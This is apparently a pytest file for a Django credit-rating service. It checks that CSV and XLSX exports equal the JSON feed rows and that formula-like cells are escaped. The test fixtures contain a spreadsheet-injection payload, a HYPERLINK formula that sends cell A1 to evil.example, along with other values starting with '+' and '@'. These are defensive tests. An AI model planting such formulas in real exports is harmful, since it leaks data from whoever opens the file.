"""The feeds as files: the same values as the JSON rows (no serializer behind them any more), formula-escaped."""

# ruff: noqa: F811  (the feed fixtures are imported from test_api and used as arguments)

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from openpyxl import load_workbook

from credit.models import CreditRating
from tests.credit.test_api import BLACKLIST, RATINGS, fgw, get, world  # noqa: F401  (fixtures)

pytestmark = pytest.mark.django_db


def _as_csv_text(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    return str(value)


@pytest.mark.parametrize("url", [BLACKLIST, RATINGS])
def test_csv_cells_equal_the_json_rows(url: str, api_client: Any, world: dict[str, Any], fgw: dict[str, str]) -> None:
    json_rows = get(api_client, url, fgw, page_size=1000).json()["results"]
    text = get(api_client, url, fgw, format="csv").getvalue().decode("utf-8-sig")
    header, *rows = list(csv.reader(io.StringIO(text)))
    assert header == list(json_rows[0])
    expected = sorted([_as_csv_text(v) for v in row.values()] for row in json_rows)
    assert sorted(rows) == expected
    # The times are the serializers' (local time zone, ISO 8601), not Python's str(datetime).
    assert all("T" in row[-1] and row[-1].endswith("+08:00") for row in rows)


def test_a_company_name_that_is_a_formula_is_escaped_and_a_negative_score_stays_a_number(
    api_client: Any, world: dict[str, Any], fgw: dict[str, str]
) -> None:
    evil = world["yongding"]
    evil.name = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    evil.save(update_fields=["name"])
    CreditRating.objects.filter(enterprise=evil).update(score=-5)

    text = get(api_client, RATINGS, fgw, format="csv", credit_code=evil.credit_code).getvalue().decode("utf-8-sig")
    header, row = list(csv.reader(io.StringIO(text)))
    cells = dict(zip(header, row, strict=True))
    assert cells["enterprise_name"] == "'" + evil.name
    assert cells["score"] == "-5"  # a number, not text: no quote

    response = get(api_client, RATINGS, fgw, format="xlsx", credit_code=evil.credit_code)
    sheet = load_workbook(io.BytesIO(response.getvalue())).worksheets[0]
    header_row, data = list(sheet.iter_rows())
    cells_xlsx = {h.value: c for h, c in zip(header_row, data, strict=True)}
    assert cells_xlsx["enterprise_name"].value == "'" + evil.name
    assert cells_xlsx["enterprise_name"].data_type == "s"  # text, never a formula
    assert cells_xlsx["score"].value == -5 and cells_xlsx["score"].data_type == "n"


@pytest.mark.parametrize("zone", ["Asia/Shanghai", "UTC"])
def test_the_ratings_csv_rows_are_the_generic_rows_escaped(world: dict[str, Any], zone: str) -> None:
    """rating_csv_rows (the ratings CSV's own row builder) gives exactly the cells of the generic rows, escaped:
    formula texts in every text column, equal and different times in a row, both time zones (`Z` for UTC)."""
    import datetime as dt

    from django.utils import timezone

    from credit.api.exports import escaped_rows, rating_csv_rows, rating_rows
    from credit.models import RuleSet

    evil = world["yongding"]
    evil.name = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    evil.credit_code = "+" + evil.credit_code[1:]
    evil.save(update_fields=["name", "credit_code"])
    RuleSet.objects.filter(pk=CreditRating.objects.get(enterprise=evil).rule_set_id).update(version="@v1")
    ratings = list(CreditRating.objects.order_by("pk"))
    assert len(ratings) >= 3
    shared = dt.datetime(2026, 12, 5, 16, 0, 0, 0, tzinfo=dt.UTC)
    CreditRating.objects.filter(pk__in=[r.pk for r in ratings[:2]]).update(computed_at=shared, status="-x")
    CreditRating.objects.filter(pk=ratings[-1].pk).update(
        computed_at=shared + dt.timedelta(microseconds=5), as_of=dt.date(2025, 1, 1), grade=9
    )
    queryset = CreditRating.objects.select_related("enterprise", "rule_set").order_by("updated_at", "pk")
    with timezone.override(zone):
        fast = [list(row) for row in rating_csv_rows(queryset)]
        generic = list(escaped_rows(rating_rows(queryset)))
    assert fast == generic
    assert any(row[2] == "'" + evil.name and row[1].startswith("'+") and row[7] == "'@v1" for row in fast)
    assert any(row[4] == "" for row in fast)  # a grade without a label
    assert all(row[11].endswith("Z" if zone == "UTC" else "+08:00") for row in fast)
